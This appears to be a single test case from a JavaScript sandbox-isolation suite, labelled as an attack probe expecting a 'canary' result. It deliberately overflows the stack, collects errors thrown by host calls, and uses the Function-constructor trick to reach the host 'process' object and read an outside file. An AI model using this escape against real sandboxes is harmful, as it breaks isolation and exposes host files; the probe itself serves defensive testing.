// attack {"class":"host realm","attempt":"the error of a host call at the very end of the stack","effect":"canary","ends":["ok","denied","threw","budget:cpuMs","budget:memoryLimitBytes"],"bare":true}
const errors = new Set();
const dive = () => {
  try { dive(); } catch (error) { errors.add(error); }
  try { readFile("/workspace/note.txt"); } catch (error) { errors.add(error); }
};
dive();
let seen = "";
for (const error of errors) {
  try { seen += error.constructor.constructor("return process")().getBuiltinModule("fs").readFileSync("{{outside.file}}", "utf8"); } catch {}
}
seen;
